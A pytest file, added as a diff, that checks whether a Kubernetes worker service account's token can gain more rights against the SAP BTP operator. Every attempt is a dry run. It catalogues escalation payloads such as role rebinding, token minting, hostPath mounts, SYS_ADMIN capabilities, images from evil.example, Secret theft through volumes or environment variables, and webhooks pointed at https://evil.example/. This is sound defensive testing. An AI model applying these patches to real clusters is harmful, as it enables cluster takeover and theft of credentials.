@@ -1,0 +1,285 @@
+"""What somebody tries who holds the worker's token: all ways to more rights are refused, by RBAC or by the policy.
+
+All attempts are dry runs: the API server authorizes and admits them as it would the real ones.
+"""
+
+import asyncio
+import urllib.error
+from collections.abc import AsyncIterator, Callable
+from dataclasses import dataclass
+from typing import Any, Final
+
+import pytest
+
+from activities.chart import ChartActivities
+from activities.teardown import TeardownActivities
+from kube.client import Kube
+from localcluster.client import Client as Person
+from localcluster.controlplane import ControlPlane
+from localcluster.environment import CHART, RELEASE, helm
+from models.deprovision import TeardownInput
+from models.mandate import Mandate
+from models.names import KYMA_NAMESPACE, OPERAND_FINALIZER
+from models.provision import ChartInput
+from operand.rendering import ChartRenderer
+from tests.acting import deprovision, provision
+from tests.conftest import CHART as OPERAND_CHART
+from tests.conftest import Eventually
+
+APPLY, MERGE = "application/apply-patch+yaml", "application/merge-patch+json"
+WORKER: Final = f"{RELEASE}-worker"
+RBAC: Final = "/apis/rbac.authorization.k8s.io/v1"
+HOOKS: Final = "/apis/admissionregistration.k8s.io/v1"
+KYMA: Final = f"/api/v1/namespaces/{KYMA_NAMESPACE}"
+VICTIM: Final = "/api/v1/namespaces/victim/secrets"
+DEPLOYMENT: Final = f"/apis/apps/v1/namespaces/{KYMA_NAMESPACE}/deployments/sap-btp-operator-controller-manager"
+MUTATING: Final = f"{HOOKS}/mutatingwebhookconfigurations/sap-btp-operator-mutating-webhook-configuration"
+VALIDATING: Final = f"{HOOKS}/validatingwebhookconfigurations/sap-btp-operator-validating-webhook-configuration"
+CRD: Final = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/serviceinstances.services.cloud.sap.com"
+ME: Final = {"kind": "ServiceAccount", "name": WORKER, "namespace": KYMA_NAMESPACE}
+IMAGE: Final = "ghcr.io/sap/sap-btp-service-operator/controller:v0.11.10"
+
+
+@dataclass(frozen=True)
+class Attempt:
+    """One request, and what it is meant to do."""
+
+    what: str
+    method: str
+    path: str
+    body: Any = None
+    content_type: str = MERGE
+
+
+def pods(**spec: Any) -> dict[str, Any]:
+    return {"spec": {"template": {"spec": spec}}}
+
+
+def container(**fields: Any) -> dict[str, Any]:
+    return pods(containers=[{"name": "manager", "image": IMAGE, **fields}])
+
+
+def volume(**source: Any) -> dict[str, Any]:
+    return pods(volumes=[{"name": "cert", "secret": {"secretName": "webhook-server-cert"}}, {"name": "more", **source}])
+
+
+def hook(**fields: Any) -> dict[str, Any]:
+    service = {"name": "sap-btp-operator-webhook-service", "namespace": KYMA_NAMESPACE}
+    rule = {"apiVersions": ["v1"], "operations": ["CREATE"], "apiGroups": ["services.cloud.sap.com"]}
+    webhook = {
+        "name": "m.kb.io",
+        "admissionReviewVersions": ["v1"],
+        "sideEffects": "None",
+        "clientConfig": {"service": service},
+        "rules": [{**rule, "resources": ["*"]}],
+    }
+    return {"webhooks": [{**webhook, **fields}]}
+
+
+def token_secret(name: str) -> Attempt:
+    body = {
+        "apiVersion": "v1",
+        "kind": "Secret",
+        "metadata": {"name": name, "annotations": {"kubernetes.io/service-account.name": "default"}},
+        "type": "kubernetes.io/service-account-token",
+    }
+    return Attempt("a Secret with a token", "PATCH", f"{KYMA}/secrets/{name}?fieldManager=x&force=true", body, APPLY)
+
+
+BY_RBAC = [
+    Attempt("list Secrets", "GET", "/api/v1/secrets"),
+    Attempt("watch Secrets", "GET", "/api/v1/secrets?watch=true&timeoutSeconds=1"),
+    Attempt("a token of another account", "POST", f"{KYMA}/serviceaccounts/default/token", {"spec": {}}, ""),
+    Attempt("exec into the operand", "POST", f"{KYMA}/pods/any/exec?command=sh"),
+    Attempt("a Secret of another name", "POST", f"{KYMA}/secrets", {"metadata": {"name": "x"}}, ""),
+    token_secret("x"),
+    Attempt("its own role", "PATCH", f"{RBAC}/clusterroles/{WORKER}", {"rules": []}),
+    Attempt("the operand's role", "PATCH", f"{RBAC}/clusterroles/{RELEASE}-operand", {"rules": []}),
+    Attempt("the policy", "DELETE", f"{HOOKS}/validatingadmissionpolicies/{WORKER}"),
+    Attempt("the policy's binding", "PATCH", f"{HOOKS}/validatingadmissionpolicybindings/{WORKER}", {"spec": {}}),
+    *(
+        Attempt("the operand's rights for itself", "PATCH", f"{path}{ending}", body, kind)
+        for path, role in (
+            (f"{RBAC}/clusterrolebindings/sap-btp-operator-manager-rolebinding", f"{RELEASE}-operand"),
+            (f"{RBAC}/clusterrolebindings/{RELEASE}-operand", f"{RELEASE}-operand"),
+            (f"{RBAC}/namespaces/{KYMA_NAMESPACE}/rolebindings/sap-btp-operator-leader-election-rolebinding", "admin"),
+        )
+        for ending, body, kind in (
+            ("", {"subjects": [ME]}, MERGE),
+            (
+                "?fieldManager=btp-manager&force=true",
+                {
+                    "apiVersion": "rbac.authorization.k8s.io/v1",
+                    "kind": "ClusterRoleBinding" if "clusterrolebindings" in path else "RoleBinding",
+                    "metadata": {"name": path.rpartition("/")[2]},
+                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
+                    "subjects": [ME],
+                },
+                APPLY,
+            ),
+        )
+    ),
+]
+BY_POLICY = [
+    Attempt("another image", "PATCH", DEPLOYMENT, container(image="evil.example/x")),
+    Attempt("an image that only looks alike", "PATCH", DEPLOYMENT, container(image=f"{IMAGE.split(':')[0]}-evil:1")),
+    Attempt(
+        "a second container",
+        "PATCH",
+        DEPLOYMENT,
+        pods(initContainers=[{"name": "i", "image": "evil.example/x"}]),
+    ),
+    Attempt("another account", "PATCH", DEPLOYMENT, pods(serviceAccountName=WORKER, serviceAccount=WORKER)),
+    Attempt("the node's network", "PATCH", DEPLOYMENT, pods(hostNetwork=True)),
+    Attempt("the node's processes", "PATCH", DEPLOYMENT, pods(hostPID=True)),
+    Attempt("more privileges", "PATCH", DEPLOYMENT, container(securityContext={"allowPrivilegeEscalation": True})),
+    Attempt("a capability", "PATCH", DEPLOYMENT, container(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}})),
+    Attempt("the node's files", "PATCH", DEPLOYMENT, volume(hostPath={"path": "/"})),
+    Attempt("another Secret as a volume", "PATCH", DEPLOYMENT, volume(secret={"secretName": "sap-btp-manager"})),
+    Attempt(
+        "another Secret in a projected volume",
+        "PATCH",
+        DEPLOYMENT,
+        volume(projected={"sources": [{"secret": {"name": "sap-btp-manager"}}]}),
+    ),
+    Attempt(
+        "another Secret as environment",
+        "PATCH",
+        DEPLOYMENT,
+        container(envFrom=[{"secretRef": {"name": "sap-btp-manager"}}]),
+    ),
+    Attempt(
+        "a key of another Secret as environment",
+        "PATCH",
+        DEPLOYMENT,
+        container(env=[{"name": "X", "valueFrom": {"secretKeyRef": {"name": "sap-btp-manager", "key": "clientid"}}}]),
+    ),
+    *(
+        attempt
+        for path in (MUTATING, VALIDATING)
+        for attempt in (
+            Attempt(
+                "webhooks on everything",
+                "PATCH",
+                path,
+                hook(
+                    rules=[{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*"], "operations": ["*"]}],
+                ),
+            ),
+            Attempt("a webhook at an address", "PATCH", path, hook(clientConfig={"url": "https://evil.example/"})),
+            Attempt(
+                "a webhook at another Service",
+                "PATCH",
+                path,
+                hook(clientConfig={"service": {"name": "evil", "namespace": "victim"}}),
+            ),
+        )
+    ),
+    Attempt(
+        "a conversion webhook",
+        "PATCH",
+        CRD,
+        {
+            "spec": {
+                "conversion": {
+                    "strategy": "Webhook",
+                    "webhook": {
+                        "conversionReviewVersions": ["v1"],
+                        "clientConfig": {"url": "https://evil.example/"},
+                    },
+                }
+            }
+        },
+    ),
+    Attempt(
+        "other pods behind the operand's Service",
+        "PATCH",
+        f"{KYMA}/services/sap-btp-operator-webhook-service",
+        {"spec": {"selector": {"app.kubernetes.io/instance": "evil"}}},
+    ),
+    token_secret("webhook-server-cert"),
+    Attempt("write somebody's Secret", "PATCH", f"{VICTIM}/crown", {"data": {"a": "Yg=="}}),
+    Attempt("label somebody's Secret", "PATCH", f"{VICTIM}/crown", {"metadata": {"labels": {"a": "b"}}}),
+    Attempt("take somebody's finalizer off", "PATCH", f"{VICTIM}/crown", {"metadata": {"finalizers": None}}),
+    Attempt("delete somebody's Secret", "DELETE", f"{VICTIM}/crown"),
+    Attempt("delete the manager's credentials", "DELETE", f"{KYMA}/secrets/sap-btp-manager"),
+]
+NEEDED = [
+    Attempt(
+        "take the operand's finalizer off",
+        "PATCH",
+        f"{VICTIM}/crown",
+        {"metadata": {"finalizers": ["example.com/theirs"]}},
+    ),
+    Attempt("delete a binding's Secret", "DELETE", f"{VICTIM}/of-a-binding"),
+    Attempt("renew a certificate", "PATCH", f"{KYMA}/secrets/ca-server-cert", {"data": {"ca.crt": "Yg=="}}),
+]
+
+
+@pytest.fixture(params=[True, False], ids=["with the policy", "without it"])
+async def attempts(
+    request: pytest.FixtureRequest,
+    control_plane: ControlPlane,
+    person: Person,
+    mandate: Mandate,
+    credentials: dict[str, str],
+    eventually: Eventually,
+    monkeypatch: pytest.MonkeyPatch,
+) -> AsyncIterator[Callable[[Attempt], str]]:
+    """The operand as the worker installs it, with the worker's token. Yields how to try something: what refuses it."""
+    on = str(request.param).lower()
+    helm(
+        *(control_plane, "install", RELEASE, CHART),
+        *("--set", f"worker.replicas=0,trigger.replicas=0,admissionPolicy.enabled={on}"),
+    )
+    monkeypatch.setenv("KUBECONFIG", str(control_plane.service_account(KYMA_NAMESPACE, WORKER)))
+    kube = await Kube.from_environment()
+
+    def refused_by(attempt: Attempt) -> str:
+        path = attempt.path + ("&" if "?" in attempt.path else "?") + ("" if attempt.method == "GET" else "dryRun=All")
+        try:
+            kind = attempt.content_type or "application/json"
+            control_plane.request(attempt.method, path, attempt.body, kind, user=WORKER)
+        except urllib.error.HTTPError as error:
+            # A policy's refusal is a 422; that it is not the request's own fault shows where the policy is off.
+            return {403: "RBAC", 422: "policy"}.get(error.code, str(error.code))
+        return ""
+
+    try:
+        make_victims(control_plane, person)
+        if request.param:
+            wanted = Attempt("delete", "DELETE", f"{VICTIM}/crown")
+            await eventually(lambda: asyncio.to_thread(lambda: refused_by(wanted) == "policy"))
+        chart = ChartActivities(kube, ChartRenderer(OPERAND_CHART, rbac=False))
+        await provision(chart.apply_chart, ChartInput(mandate=mandate))
+        person.delete(f"{KYMA}/secrets/webhook-server-cert")
+        yield refused_by
+        person.delete_operator("btpoperator")
+        await deprovision(TeardownActivities(kube).remove_resources, TeardownInput(mandate=mandate))
+    finally:
+        await kube.close()
+        helm(control_plane, "uninstall", RELEASE, "--wait")
+        for name in ("crown", "of-a-binding"):
+            control_plane.request("PATCH", f"{VICTIM}/{name}", {"metadata": {"finalizers": None}}, MERGE)
+            person.delete(f"{VICTIM}/{name}")
+
+
+def make_victims(control_plane: ControlPlane, person: Person) -> None:
+    """A Secret with parameters, and one that belongs to a ServiceBinding."""
+    person.ensure_namespace("victim")
+    person.put_secret({"a": "b"}, "crown", "victim")
+    finalizers = [OPERAND_FINALIZER, "example.com/theirs"]
+    control_plane.request("PATCH", f"{VICTIM}/crown", {"metadata": {"finalizers": finalizers}}, MERGE)
+    owner = {"apiVersion": "services.cloud.sap.com/v1", "kind": "ServiceBinding", "name": "b", "uid": "1"}
+    person.put_secret({"a": "b"}, "of-a-binding", "victim")
+    body = {"metadata": {"ownerReferences": [{**owner, "controller": True}], "finalizers": ["example.com/theirs"]}}
+    control_plane.request("PATCH", f"{VICTIM}/of-a-binding", body, MERGE)
+
+
+async def test_every_way_to_more_rights_is_refused(
+    attempts: Callable[[Attempt], str], request: pytest.FixtureRequest
+) -> None:
+    policy = "policy" if "with the policy" in request.node.name else ""
+    assert [a.what for a in BY_RBAC if attempts(a) != "RBAC"] == []
+    assert {a.what: attempts(a) for a in BY_POLICY} == {a.what: policy for a in BY_POLICY}
+    assert {a.what: attempts(a) for a in NEEDED} == {a.what: "" for a in NEEDED}
